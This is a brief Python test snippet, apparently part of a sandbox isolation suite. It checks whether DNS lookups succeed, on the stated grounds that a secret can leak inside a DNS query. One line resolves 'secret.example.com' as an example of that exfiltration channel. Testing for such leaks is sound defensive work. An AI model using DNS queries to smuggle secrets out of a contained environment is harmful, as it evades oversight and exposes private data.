# ruff: noqa
"""Asks for a name: a secret can be sent in the question."""

import socket

attempt("name", lambda: socket.getaddrinfo("secret.example.com", 80))
attempt("name", lambda: socket.gethostbyname("example.com"))
